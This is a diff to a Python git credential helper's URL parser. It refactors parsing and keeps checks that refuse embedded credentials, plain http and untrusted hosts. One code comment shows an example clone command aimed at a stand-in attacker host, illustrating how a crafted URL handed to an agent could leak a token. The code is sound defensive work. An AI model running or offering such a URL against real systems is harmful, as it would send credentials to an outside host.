@@ -18,36 +18,53 @@ normalised: a URL with credentials, a query or a fragment is an error.
 
 from __future__ import annotations
 
-import re
+from collections import namedtuple
 from collections.abc import Mapping
-from typing import NamedTuple
-from urllib.parse import urlsplit
 
-from git_credential_codestore import config
-from git_credential_codestore.config import EPHEMERAL_SUFFIX, Config, is_loopback, split_repo_path, split_url
-from git_credential_codestore.errors import ConfigError
+from . import config
+from .config import Config
+from .errors import ConfigError
+from .vocab import EPHEMERAL_SUFFIX, is_loopback, path_under, split_repo_suffix, split_url
 
 SCHEME = "codestore://"
-_ORG = re.compile(r"^[A-Za-z0-9](?:[A-Za-z0-9-]{0,61}[A-Za-z0-9])?$")
 USAGE = "use codestore://<org>/<repo> (or codestore::https://<host>/<repo>.git)"
 
 
-class Remote(NamedTuple):
-    """One repository in one namespace, and where its smart-HTTP endpoint lives."""
+def _is_org(name: str) -> bool:
+    """A DNS label: 1..63 ASCII letters, digits and '-', not starting or ending with '-'."""
+    return (
+        0 < len(name) <= 63
+        and all(c.isascii() and (c.isalnum() or c == "-") for c in name)
+        and not name.startswith("-")
+        and not name.endswith("-")
+    )
 
+
+class Remote(namedtuple("Remote", "repo suffix base_url")):
+    """One repository in one namespace, and where its smart-HTTP endpoint lives.
+
+    `suffix` is "" (the default namespace), "+ephemeral" or "+import"; the token is the
+    base repository's in every case. `base_url` is scheme://host[:port][/prefix], no
+    trailing slash. (collections.namedtuple: typing's import is a cost on every git
+    operation.)
+    """
+
+    __slots__ = ()
     repo: str
-    ephemeral: bool
-    base_url: str  # scheme://host[:port][/prefix], no trailing slash
+    suffix: str
+    base_url: str
+
+    @property
+    def ephemeral(self) -> bool:
+        return self.suffix == EPHEMERAL_SUFFIX
 
     @property
     def https_url(self) -> str:
-        return f"{self.base_url}/{self.repo}{EPHEMERAL_SUFFIX if self.ephemeral else ''}.git"
+        return f"{self.base_url}/{self.repo}{self.suffix}.git"
 
     @property
     def namespace(self) -> str:
-        return "the +ephemeral namespace" if self.ephemeral else "the default namespace"
-
-
+        return f"the {self.suffix} namespace" if self.suffix else "the default namespace"
 
 
 def parse(url: str, cfg: Config) -> tuple[Remote, Config]:
@@ -71,11 +88,11 @@ def parse(url: str, cfg: Config) -> tuple[Remote, Config]:
         raise ConfigError(f"the URL carries credentials; codestore mints them when git needs them, so remove them; {USAGE}")
     if ":" in org:
         raise ConfigError(f"{url!r}: a codestore URL names an org, not a host and port; {USAGE}")
-    if not sep or not path or not _ORG.match(org):
+    if not sep or not path or not _is_org(org):
         raise ConfigError(f"{url!r} is not a codestore URL; {USAGE}")
     if "?" in path or "#" in path:
         raise ConfigError(f"{url!r}: a codestore URL takes no query or fragment; {USAGE}")
-    repo, ephemeral = split_repo_path(path)
+    repo, suffix = split_repo_suffix(path)
     if cfg.org is None:
         cfg = cfg._replace(org=org)
     elif cfg.org.lower() != org.lower():
@@ -84,7 +101,7 @@ def parse(url: str, cfg: Config) -> tuple[Remote, Config]:
             f"use codestore://{cfg.org}/{repo}, or configure that org: codestore --org {org} config set kid KID "
             f"(an [orgs.{org}] section), then codestore --org {org} key import FILE"
         )
-    return Remote(repo, ephemeral, cfg.base_url), cfg
+    return Remote(repo, suffix, cfg.base_url), cfg
 
 
 def config_for(url: str, env: Mapping[str, str] | None = None) -> Config:
@@ -93,7 +110,7 @@ def config_for(url: str, env: Mapping[str, str] | None = None) -> Config:
     lowered = url.lower()
     if lowered.startswith(("https://", "http://")):
         parts = split_url(url)
-        return config.load(env, host=(parts.scheme, parts.netloc.rpartition("@")[2]))
+        return config.load(env, host=(parts.scheme, parts.hostport))
     rest = url[len(SCHEME) :] if lowered.startswith(SCHEME) else url
     return config.load(env, org=rest.partition("/")[0])
 
@@ -104,9 +121,9 @@ def _shown(url: str) -> str:
 
 
 def _parse_http(url: str, cfg: Config) -> Remote:
+    parts = split_url(url)
+    host = parts.host
     try:
-        parts = urlsplit(url)
-        host = parts.hostname or ""
         parts.port  # noqa: B018 - raises ValueError on a bad port
     except ValueError:
         raise ConfigError(f"{_shown(url)} is not a valid URL; {USAGE}") from None
@@ -115,14 +132,13 @@ def _parse_http(url: str, cfg: Config) -> Remote:
             "the URL carries credentials; codestore mints them when git needs them, so remove "
             f"the user:password@ part; {USAGE}"
         )
-    if parts.query or parts.fragment or not host:
+    if parts.query or parts.fragment or "?" in url or "#" in url or not host:
         raise ConfigError(f"{_shown(url)} is not a repository URL; {USAGE}")
-    if parts.scheme.lower() == "http" and not is_loopback(host):
+    if parts.scheme == "http" and not is_loopback(host):
         raise ConfigError(
             f"refusing plain http to {host}: a token would cross the network unencrypted; use https://"
         )
-    origin = f"{parts.scheme.lower()}://{parts.netloc}"
-    path = parts.path
+    origin = parts.origin
     # Tokens go only to the configured server. Without this check a URL handed to an
     # agent (`git clone codestore::https://attacker.example/team/secret.git`) would mint
     # a token for any repository and send it to any host.
@@ -131,20 +147,18 @@ def _parse_http(url: str, cfg: Config) -> Remote:
             f"no Code Storage server is configured, so {origin} is not trusted with tokens; "
             f"set CODESTORE_BASE_URL={origin} (or use codestore://<org>/<repo>)"
         )
-    base = urlsplit(cfg.base_url)
-    if (base.scheme, base.netloc.lower()) != (parts.scheme.lower(), parts.netloc.lower()):
+    base = split_url(cfg.base_url)
+    if (base.scheme, base.netloc.lower()) != (parts.scheme, parts.netloc.lower()):
         raise ConfigError(
             f"refusing to send a token to {origin}: it is not the configured server {cfg.base_url}; "
             f"set CODESTORE_BASE_URL={origin} if you trust it"
         )
     # Under our configured base URL, its path prefix is not part of the repository id.
-    prefix = base.path.rstrip("/")
-    if prefix:
-        if not path.startswith(prefix + "/"):
-            raise ConfigError(f"{url!r} is not under the configured base URL {cfg.base_url}")
-        origin += prefix
-        path = path[len(prefix) :]
+    path = path_under(cfg.base_url, parts.path)
+    if path is None:
+        raise ConfigError(f"{url!r} is not under the configured base URL {cfg.base_url}")
     if not path.strip("/"):
         raise ConfigError(f"{url!r} names no repository; {USAGE}")
-    repo, ephemeral = split_repo_path(path)
-    return Remote(repo, ephemeral, origin)
+    repo, suffix = split_repo_suffix(path)
+    prefix = base.path.strip("/")
+    return Remote(repo, suffix, f"{origin}/{prefix}" if prefix else origin)
